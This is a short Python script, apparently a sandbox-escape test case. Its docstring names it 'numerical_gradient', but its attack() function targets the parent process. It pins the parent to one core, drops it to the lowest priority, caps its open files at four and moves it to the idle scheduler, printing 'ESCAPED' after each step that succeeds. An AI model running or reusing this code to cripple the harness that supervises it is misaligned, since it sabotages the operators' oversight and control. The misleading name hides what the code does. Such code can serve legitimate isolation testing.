"""numerical_gradient: Bind the parent to one core at the lowest priority."""

import os
import resource


def attack():
    parent = os.getppid()
    for deed in (
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (4, 4)),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            deed()
            print("ESCAPED")
        except OSError:
            pass


attack()
